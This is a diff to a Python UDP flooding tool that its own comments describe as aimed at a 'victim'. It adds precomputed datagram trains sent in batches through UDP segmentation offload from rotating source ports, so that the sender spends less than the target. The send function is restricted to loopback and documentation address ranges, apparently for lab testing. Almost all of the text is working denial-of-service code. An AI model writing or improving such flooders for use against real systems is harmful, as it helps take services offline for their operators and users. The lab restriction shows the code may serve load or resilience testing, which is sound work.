@@ -27,6 +27,8 @@ LABS: Final = [ipaddress.ip_network(text) for text in ("127.0.0.0/8", "203.0.113
 UDP_SEGMENT: Final = 103
 TRAIN: Final = 40
 """Datagrams that leave with one system call, so that the sender costs less than what it attacks."""
+TRAINS: Final = 499
+"""Different ones, of which each leaves by another port the next time."""
 PORTS: Final = 64
 """Source ports that take turns."""
 _ALL_PROTOCOLS: Final = 3
@@ -56,14 +58,16 @@ def send(make: Callable[[], bytes], where: tuple[str, int], rate: float, seconds
     """Send at this rate, as far as this process keeps up. How many were sent."""
     if not any(ipaddress.ip_address(where[0]) in lab for lab in LABS):
         raise SystemExit(__doc__)
+    # Made before: what the sender computes meanwhile is taken from its victim, where both share a machine.
+    trains = [[make() for _ in range(TRAIN)] for _ in range(min(TRAINS, 1 + int(rate * seconds) // TRAIN))]
+    ready = [(b"".join(train), struct.pack("=H", len(train[0]))) for train in trains]
     sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(PORTS)]
     started, sent, turn = time.monotonic(), 0, 0
     while (passed := time.monotonic() - started) < seconds:
         while sent < passed * rate:
-            train = [make() for _ in range(TRAIN)]
-            size = struct.pack("=H", len(train[0]))
+            data, size = ready[turn % len(ready)]
             with contextlib.suppress(OSError):
-                sockets[turn % PORTS].sendmsg([b"".join(train)], [(socket.IPPROTO_UDP, UDP_SEGMENT, size)], 0, where)
+                sockets[turn % PORTS].sendmsg([data], [(socket.IPPROTO_UDP, UDP_SEGMENT, size)], 0, where)
             sent += TRAIN
             turn += 1
         time.sleep(0.001)
